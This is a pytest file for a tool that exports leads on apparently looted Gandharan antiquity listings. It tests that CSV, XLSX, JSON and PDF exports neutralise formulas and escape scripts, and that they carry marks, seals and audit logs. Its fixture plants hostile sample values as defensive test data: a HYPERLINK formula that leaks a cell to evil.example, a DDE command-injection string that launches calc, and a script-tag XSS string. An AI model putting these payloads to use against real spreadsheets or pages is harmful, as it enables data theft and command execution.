"""A lead leaves the desk: every format says what is known, whose word it is, and runs nothing on the reader's machine."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile

import pytest
from openpyxl import load_workbook
from web_world import World

from patrol.errors import RefusedError, UsageError
from patrol.ledger.lead_reading import Lead
from patrol.reports import FORMATS, export_lead, lead_json
from patrol.reports.casefile import gather
from patrol.reports.dossier import html
from patrol.reports.photographs import photograph
from patrol.reports.rows import harmless

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def lead(world: World) -> Lead:
    viewer = world.people["nl"].viewer
    keys = [
        world.listing("1", EVIL + " Gandharan head", pictures=2),
        world.listing(
            "2", "Gandhara <script>alert(1)</script> relief", "@SUM(1+1)*cmd|' /C calc'!A0 Gandhara", seller="+49 shop"
        ),
    ]
    made = world.ledger.leads.open(viewer, keys, "Two from Peshawar", "-2+3 looks like one hoard")
    return world.ledger.leads.note(viewer, made.number, "Both stand on the same carpet", True)


def exported(world: World, lead: Lead, form: str, login: str = "nl") -> bytes:
    return export_lead(world.ledger, world.archive, world.people[login].viewer, lead.number, form).body


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\t=1", "\r=1", "  =1", "\ufeff=1"])
def test_a_cell_that_begins_like_a_formula_is_made_text(text: str) -> None:
    assert str(harmless(text)).startswith("'")


def test_ordinary_cells_stay_as_they_are() -> None:
    assert [harmless(cell) for cell in ("Buddha = head", "480 - 500", 12, None)] == ["Buddha = head", "480 - 500", 12, None]


def test_no_cell_of_the_csv_runs_as_a_formula(world: World, lead: Lead) -> None:
    rows = list(csv.DictReader(io.StringIO(exported(world, lead, "csv").decode("utf-8-sig"))))
    assert len(rows) == 2
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values() if cell)
        assert row["mark"] == "TLP:AMBER+STRICT"
        assert "never of the person" in row["caveat"]
        assert row["seal_checked"] == "ok"
    assert rows[0]["title"] == "'" + EVIL + " Gandharan head"
    assert rows[0]["score"] == "100"


def test_the_workbook_holds_text_not_formulas_and_marks_every_sheet(world: World, lead: Lead) -> None:
    body = exported(world, lead, "xlsx")
    book = load_workbook(io.BytesIO(body))
    assert book.sheetnames == ["Lead", "Listings", "Why", "Claims", "Object ID", "Notes", "Events", "Evidence"]
    for sheet in book.worksheets:
        assert "TLP:AMBER+STRICT" in str(sheet.oddHeader.center.text)
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    with zipfile.ZipFile(io.BytesIO(body)) as parts:
        assert not any(b"<f>" in parts.read(name) for name in parts.namelist())


def test_the_points_of_the_sheet_why_add_up(world: World, lead: Lead) -> None:
    book = load_workbook(io.BytesIO(exported(world, lead, "xlsx")))
    why, listings = list(book["Why"].values)[2:], list(book["Listings"].values)
    head = list(listings[1])
    for row in listings[2:]:
        points = sum(entry[2] for entry in why if entry[0] == row[head.index("listing")])
        assert points == row[head.index("sum")]


def test_json_carries_the_contracts_shapes_and_says_fact_or_assessment(world: World, lead: Lead) -> None:
    found = json.loads(exported(world, lead, "json"))
    entry = found["listings"][0]
    listing, assessment = entry["listing"], entry["assessment"]
    for signal in assessment["signals"]:
        if signal["field"]:
            assert listing[signal["field"]][signal["start"] : signal["end"]] == signal["quote"]
    assert entry["seal"]["checked"] == "ok"
    assert entry["seal"]["digest"].startswith("sha256:")
    assert {note["kind"] for note in found["notes"]} == {"fact", "assessment"}
    assert {value["kind"] for value in entry["object_id"]} <= {"fact", "assessment", None}
    assert "does not mean not stolen" in found["caveat"]


def test_the_object_id_sheet_has_eleven_lines_a_listing(world: World, lead: Lead) -> None:
    rows = list(csv.DictReader(io.StringIO(exported(world, lead, "objectid").decode("utf-8-sig"))))
    assert len(rows) == 22
    measured = next(row for row in rows if row["field"] == "Measurements")
    assert (measured["value"], measured["from"], measured["kind"]) == ("23 cm", "listing, Height", "fact")


def test_a_changed_seal_is_said_in_the_export(world: World, lead: Lead) -> None:
    key = lead.listings[0].listing_key
    capture = world.ledger.runs.capture(lead.listings[0].capture_id or "")
    assert capture is not None
    path = world.archive.root / capture.file
    held = bytearray(path.read_bytes())
    held[capture.offset + capture.length // 2] ^= 0xFF
    path.write_bytes(bytes(held))
    found = json.loads(exported(world, lead, "json"))
    assert {entry["key"]: entry["seal"]["checked"] for entry in found["listings"]}[key] == "changed"


def test_an_export_is_logged_with_its_reason(world: World, lead: Lead) -> None:
    auditor = world.person("eye", role="auditor").viewer
    export_lead(world.ledger, world.archive, world.people["nl"].viewer, lead.number, "csv", reason="for the prosecutor")
    entry = world.ledger.audit.list(auditor, action="export")[0]
    assert (entry.object_id, entry.reason, entry.detail["format"]) == (lead.number, "for the prosecutor", "csv")


@pytest.mark.parametrize("form", FORMATS)
def test_another_agency_gets_nothing(world: World, lead: Lead, form: str) -> None:
    with pytest.raises(RefusedError, match="no lead"):
        exported(world, lead, form, "it")


def test_an_unknown_format_is_named(world: World, lead: Lead) -> None:
    with pytest.raises(UsageError, match="docx"):
        exported(world, lead, "docx")


def test_lead_json_without_an_archive_checks_no_seal(world: World, lead: Lead) -> None:
    found = lead_json(world.ledger, world.people["nl"].viewer, lead.number)
    assert [entry["seal"]["checked"] for entry in found["listings"]] == ["unchecked", "unchecked"]


def test_the_dossiers_page_loads_nothing_and_runs_nothing(world: World, lead: Lead) -> None:
    page = html(gather(lead.number, world.people["nl"].viewer, world.ledger, world.archive), world.archive)
    assert "<script" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert all(source.startswith("data:") for source in re.findall(r'(?:src|href)="([^"]*)"', page))
    assert "href=" not in page


@pytest.mark.browser
def test_the_dossier_is_a_pdf_with_pages_pictures_and_mark(world: World, lead: Lead) -> None:
    body = exported(world, lead, "dossier")
    assert body.startswith(b"%PDF-")
    assert len(re.findall(rb"/Type\s*/Page\b", body)) >= 4  # the card, each listing, the events
    assert len(re.findall(rb"/Subtype\s*/Image\b", body)) >= 3


@pytest.mark.browser
def test_a_leads_pages_are_photographed_from_their_seals_once(world: World, lead: Lead) -> None:
    versions = [member.version_id for member in lead.listings]
    assert photograph(world.ledger, world.archive, versions) == []
    case = gather(lead.number, world.people["nl"].viewer, world.ledger, world.archive)
    for entry in case.entries:
        shot, pdf = entry.photographs.screenshot, entry.photographs.pdf
        assert shot is not None
        assert pdf is not None
        assert world.archive.read(shot).startswith(b"\x89PNG")
        assert world.archive.read(pdf).startswith(b"%PDF-")
    runs = len(world.ledger.runs.recent())
    assert photograph(world.ledger, world.archive, versions) == []
    assert len(world.ledger.runs.recent()) == runs
    assert "How the page looked" in html(case, world.archive)


def test_without_a_browser_the_missing_photograph_is_a_fault_of_the_run(world: World, lead: Lead) -> None:
    faults = photograph(world.ledger, world.archive, [lead.listings[0].version_id], {"PATROL_CHROMIUM": "none", "PATH": ""})
    assert "PATROL_CHROMIUM" in faults[0].message
    row = world.ledger.runs.recent()[0]
    assert (row.run.marketplace, row.run.state, row.faults) == ("desk", "failed", 1)
